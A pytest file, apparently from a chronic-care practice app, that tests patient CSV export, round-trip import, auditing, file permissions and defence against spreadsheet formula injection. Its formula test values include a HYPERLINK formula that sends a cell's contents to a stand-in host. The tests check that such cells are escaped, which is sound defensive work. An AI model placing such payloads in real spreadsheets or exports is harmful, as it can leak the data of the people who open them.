"""Patient export: every patient in the import's columns; the file imports back unchanged."""

from __future__ import annotations

import csv
import itertools
import os
import stat
from datetime import date

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from ccm_desktop import icd10
from ccm_desktop.db.models import AuditEvent, Base
from ccm_desktop.errors import CcmError
from ccm_desktop.importers import export_patients, import_patients
from ccm_desktop.importers.csvfile import quoted, unescape
from ccm_desktop.importers.export import safe_cell
from ccm_desktop.importers.patients import PATIENT_COLUMNS
from ccm_desktop.services.patients import LANGUAGES
from ccm_desktop.validation import US_STATES, looks_like_formula
from tests.csvdata import CHRONIC_CODES, MBI_LETTERS, patient_row, write_csv


def dump(ctx) -> dict[str, list[tuple]]:
    """Every table but the audit trail, row by row."""
    out = {}
    with ctx.db.engine.connect() as conn:
        for t in Base.metadata.sorted_tables:
            if t.name != "audit_event":
                q = t.select().order_by(*t.primary_key.columns)
                out[t.name] = [tuple(r) for r in conn.execute(q)]
    return out


def audit_actions(ctx) -> list[str]:
    with ctx.db.read() as s:
        return list(s.scalars(select(AuditEvent.action).order_by(AuditEvent.id)))


def read(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def varied(ctx, admin, clinician, tmp_path) -> None:
    """Patients in many states: enrolled, changed, disenrolled, declined, retired conditions."""
    rows = [
        patient_row(1),
        patient_row(
            2,
            program="",
            consent_date="",
            consent_method="",
            care_plan_date="",
            mbi="",
            phone="",
            last_visit_date="",
            billing_provider_npi="",
        ),
        patient_row(3, program="apcm", qmb="yes", conditions="E11.9"),
        patient_row(
            4,
            program="pcm",
            conditions="J44.9",
            last_name="O'Brien, Jr.",
            address='12 "Old" Mill Rd, Unit 4',
            first_name="Zoë",
        ),
        patient_row(5),
    ]
    assert import_patients(
        ctx, write_csv(tmp_path / "seed.csv", PATIENT_COLUMNS, rows), admin
    ).written
    later = patient_row(
        5, program="complex_ccm", consent_date="2025-03-01", care_plan_date="2025-03-02"
    )
    assert import_patients(
        ctx, write_csv(tmp_path / "later.csv", PATIENT_COLUMNS, [later]), admin
    ).updated
    p1 = ctx.patients.find_by_mrn("T000001")
    ctx.enrollment.disenroll(
        clinician, ctx.enrollment.history(p1.id)[0].id, "moved away", date(2025, 5, 3)
    )
    ctx.patients.set_condition_status(clinician, p1.conditions[0].id, "resolved")
    p4 = ctx.patients.find_by_mrn("T000004")
    ctx.careplans.add_kept_elsewhere(clinician, p4.id, date(2025, 7, 1))


def test_export_then_import_changes_nothing(ctx, admin, tmp_path, varied):
    n = export_patients(ctx, tmp_path / "out.csv", admin)
    assert n == 5
    before, acts = dump(ctx), audit_actions(ctx)
    report = import_patients(ctx, tmp_path / "out.csv", admin)
    assert (report.created, report.updated, report.unchanged, report.problems) == (0, 0, 5, [])
    assert dump(ctx) == before
    assert audit_actions(ctx)[len(acts) :] == ["import.patients"]


def test_export_columns_follow_the_current_enrollment(ctx, admin, tmp_path, varied):
    export_patients(ctx, tmp_path / "out.csv", admin)
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfmrn,last_name,")
    rows = {r["mrn"]: r for r in read(tmp_path / "out.csv")}
    assert list(rows) == ["T000001", "T000002", "T000003", "T000004", "T000005"]
    one, two, three, four, five = rows.values()
    assert (one["program"], one["consent_date"]) == ("", "")  # disenrolled
    assert one["conditions"] == "I50.9"  # the resolved I10 is left out
    assert (two["program"], two["mbi"], two["phone"], two["care_plan_date"]) == ("", "", "", "")
    assert (three["program"], three["qmb"], three["conditions"]) == ("apcm", "yes", "E11.9")
    assert four["address"] == '12 "Old" Mill Rd, Unit 4' and four["care_plan_date"] == "2025-07-01"
    assert (five["program"], five["consent_date"], five["consent_method"]) == (
        "complex_ccm",
        "2025-03-01",
        "verbal",
    )
    assert five["care_plan_date"] == "2025-03-02" and five["phone"] == "(555) 105-0005"


def test_export_is_audited_and_refuses_the_database_file(ctx, admin, tmp_path, varied):
    export_patients(ctx, tmp_path / "out.csv", admin)
    assert audit_actions(ctx)[-1] == "export.patients"
    with pytest.raises(CcmError, match="file of the practice database"):
        export_patients(ctx, ctx.paths.database, admin)
    with pytest.raises(CcmError, match="folder"):
        export_patients(ctx, tmp_path, admin)


def test_empty_practice_exports_a_header(ctx, admin, tmp_path):
    assert export_patients(ctx, tmp_path / "none.csv", admin) == 0
    assert (tmp_path / "none.csv").read_text(encoding="utf-8-sig").strip() == ",".join(
        PATIENT_COLUMNS
    )


# -- property: any valid row goes in, comes out the same, and goes back in unchanged ---------
_ids = itertools.count()
_digits = "0123456789"
_mbi_positions = [
    "123456789",
    MBI_LETTERS,
    MBI_LETTERS + _digits,
    _digits,
    MBI_LETTERS,
    MBI_LETTERS + _digits,
    _digits,
    MBI_LETTERS,
    MBI_LETTERS,
    _digits,
    _digits,
]
_name = (
    st.text(
        st.sampled_from("abcdefghijklmnopqrstuvwxyzABCXYZ éñüç'-,\"=+@"), min_size=1, max_size=16
    )
    .map(str.strip)
    .filter(bool)
    .filter(lambda v: not quoted(v))  # '+x in a file is the export's form of +x
)
TODAY = date(2026, 11, 16)  # FIXED_NOW in New York


@st.composite
def patient_rows(draw: st.DrawFn) -> dict[str, str]:
    dob = draw(st.dates(date(1910, 1, 1), date(2000, 12, 31)))
    codes = draw(st.lists(st.sampled_from(CHRONIC_CODES), max_size=3, unique=True))
    programs = (
        ["", "apcm"]
        + (["pcm"] if codes else [])
        + (["ccm", "complex_ccm"] if len(codes) > 1 else [])
    )
    program = draw(st.sampled_from(programs))
    later = st.dates(dob, TODAY)
    optional_date = st.one_of(st.just(""), later.map(date.isoformat))
    mbi = draw(
        st.one_of(
            st.just(""), st.tuples(*(st.sampled_from(p) for p in _mbi_positions)).map("".join)
        )
    )
    return {
        "mrn": f"h{next(_ids)}x",
        "last_name": draw(_name),
        "first_name": draw(_name),
        "dob": dob.isoformat(),
        "sex": draw(st.sampled_from("FMXU")),
        "phone": draw(
            st.one_of(st.just(""), st.from_regex(r"[2-9]\d{2}-\d{3}-\d{4}", fullmatch=True))
        ),
        "address": draw(st.one_of(st.just(""), _name)),
        "city": draw(st.one_of(st.just(""), _name)),
        "state": draw(st.sampled_from(["", *sorted(US_STATES)])),
        "zip": draw(st.from_regex(r"(\d{5}(-\d{4})?)?", fullmatch=True)),
        "mbi": mbi,
        "preferred_language": draw(st.sampled_from(sorted(LANGUAGES))),
        "billing_provider_npi": draw(st.sampled_from(["", "1234567893", "1000000004"])),
        "conditions": ";".join(codes),
        "program": program,
        "consent_date": draw(later).isoformat() if program else "",
        "consent_method": draw(st.sampled_from(["verbal", "written"])) if program else "",
        "last_visit_date": draw(optional_date),
        "care_plan_date": draw(optional_date),
        "qmb": draw(st.sampled_from(["yes", "no"])),
    }


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(row=patient_rows())
def test_any_valid_patient_row_round_trips(ctx, admin, tmp_path, row):
    export_patients(ctx, tmp_path / "all.csv", admin)
    assume(not row["mbi"] or row["mbi"] not in {r["mbi"] for r in read(tmp_path / "all.csv")})
    report = import_patients(ctx, write_csv(tmp_path / "in.csv", PATIENT_COLUMNS, [row]), admin)
    assert report.created == 1, report.problems
    export_patients(ctx, tmp_path / "out.csv", admin)
    out = {r["mrn"]: r for r in read(tmp_path / "out.csv")}[row["mrn"].upper()]
    assert not [c for c in out.values() if looks_like_formula(c)]  # no cell a spreadsheet runs
    for col in set(PATIENT_COLUMNS) - {"mrn", "phone", "conditions"}:
        assert unescape(out[col]) == row[col], col  # as the import reads the cell
    assert out["phone"].translate(str.maketrans("", "", "()- ")) == row["phone"].replace("-", "")
    codes = [icd10.with_dot(c) for c in row["conditions"].split(";") if c]
    assert sorted(c for c in out["conditions"].split(";") if c) == sorted(codes)
    again = import_patients(ctx, tmp_path / "out.csv", admin)
    assert (again.created, again.updated, again.problems) == (0, 0, [])


# -- cells a spreadsheet would run, and who may read the file --------------------------------
FORMULAS = {
    "last_name": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "first_name": "@SUM(1+1)",
    "address": "-2+3 Example Street",
    "city": "+Columbus",
}


def test_formula_like_values_are_exported_as_text_and_import_back_unchanged(ctx, admin, tmp_path):
    row = patient_row(1, **FORMULAS)
    import_patients(ctx, write_csv(tmp_path / "in.csv", PATIENT_COLUMNS, [row]), admin)
    export_patients(ctx, tmp_path / "out.csv", admin)
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    [written] = read(tmp_path / "out.csv")
    for column, value in FORMULAS.items():
        assert written[column] == "'" + value  # shown as text by Excel and LibreOffice
    cells = [c for line in csv.reader(raw.splitlines()) for c in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert written["billing_provider_npi"] == "1234567893" and written["zip"] == "43210"
    before = dump(ctx)
    again = import_patients(ctx, tmp_path / "out.csv", admin)
    assert (again.created, again.updated, again.unchanged, again.problems) == (0, 0, 1, [])
    assert dump(ctx) == before
    assert ctx.patients.find_by_mrn("T000001").data.last_name == FORMULAS["last_name"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555", "'+1 555"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),  # a number stays a number
        ("+1.5", "+1.5"),
        ("O'Brien", "O'Brien"),
        ("'=x", "''=x"),  # an apostrophe of its own survives the round trip
        ("''@x", "'''@x"),
        ("'Brien", "'Brien"),
        ("", ""),
    ],
)
def test_safe_cell_and_the_import_read_each_other(value, cell):
    assert safe_cell(value) == cell
    assert unescape(cell) == value


def test_the_export_is_readable_by_its_user_only(ctx, admin, tmp_path):
    old = os.umask(0o022)  # a usual umask: files would be created 0644
    try:
        target = tmp_path / "out.csv"
        target.write_text("old export\n")
        os.chmod(target, 0o644)
        export_patients(ctx, target, admin)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        assert target.read_text(encoding="utf-8-sig").startswith("mrn,")
        export_patients(ctx, tmp_path / "new.csv", admin)
        assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o600
        assert not list(tmp_path.glob("*.partial"))
    finally:
        os.umask(old)
